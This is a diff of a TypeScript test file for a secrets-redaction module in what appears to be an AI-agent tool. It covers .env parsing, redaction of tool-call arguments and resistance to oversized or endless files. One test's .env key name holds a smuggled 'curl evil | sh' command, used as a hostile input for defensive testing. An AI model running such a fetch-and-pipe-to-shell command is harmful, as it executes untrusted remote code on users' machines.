@@ -96,22 +96,47 @@ describe('values of known secrets (TR4)', () => {
 
   test("addDotEnv: a name in a workspace's .env that is more than a word → nothing of it gets into what is said", async () => {
     const workspace = await mkdtemp(join(tmpdir(), 'steersman-secrets-'));
-    await writeFile(join(workspace, '.env'), 'x; curl evil | sh;_key="npm run build && npm test"\n');
+    await writeFile(join(workspace, '.env'), 'x; curl evil | sh;_key="sk-live-0123456789"\n');
     const known = new Secrets();
-    known.addDotEnv(workspace);
-    expect(known.redact('npm run build && npm test')).toBe('[secret x_curl_evil_sh__key]');
+    known.addDotEnv(workspace, 'workspace');
+    expect(known.redact('sk-live-0123456789')).toBe('[secret x_curl_evil_sh__key]');
+  });
+
+  test("addDotEnv: words that a workspace's .env calls keys → no keys: else they would vanish from what is said (TR4)", async () => {
+    const workspace = await mkdtemp(join(tmpdir(), 'steersman-secrets-'));
+    const words = [
+      '--dry-run=client --all',
+      'requiresUserConfirmation',
+      'list_directory_with_sizes',
+      '2026-11-22',
+    ];
+    await writeFile(join(workspace, '.env'), words.map((word, i) => `A${i}_KEY="${word}"`).join('\n'));
+    const known = new Secrets();
+    known.addDotEnv(workspace, 'workspace');
+    expect(known.redact(words.join(' '))).toBe(words.join(' '));
+  });
+
+  test('activity: a call of a tool whose arguments hold a secret → it is flagged, so that no changed call runs (TR4)', async () => {
+    const call = (text: string) => ({ type: 'tool_use', id: 't1', name: 'write', input: { text } });
+    const { result } = behind(secrets, async () => ({ content: [call(`key ${KEY}`), call('fine')] }));
+    expect(await result).toEqual({
+      content: [
+        { ...call('key [secret OPENAI_API_KEY]'), argErrors: [expect.stringContaining('taken out')] },
+        call('fine'),
+      ],
+    });
   });
 
   test('addDotEnv: a link to what has no end, or very many keys → no worker waits for it', async () => {
     const workspace = await mkdtemp(join(tmpdir(), 'steersman-secrets-'));
     await symlink('/dev/zero', join(workspace, '.env'));
     const known = new Secrets();
-    known.addDotEnv(workspace);
+    known.addDotEnv(workspace, 'workspace');
     await rm(join(workspace, '.env'));
-    const many = Array.from({ length: 50_000 }, (_, i) => `A${i}_KEY=${100_000_000 + i}`);
+    const many = Array.from({ length: 50_000 }, (_, i) => `A${i}_KEY=sk-${100_000_000 + i}`);
     await writeFile(join(workspace, '.env'), many.join('\n').slice(0, 999_999));
-    known.addDotEnv(workspace);
-    expect(known.redact('100000000 100009999')).toBe('[secret A0_KEY] 100009999');
+    known.addDotEnv(workspace, 'workspace');
+    expect(known.redact('sk-100000000 sk-100009999')).toBe('[secret A0_KEY] sk-100009999');
   });
 
   test('activity: failure → message, stack, details and causes redacted, its type kept', async () => {
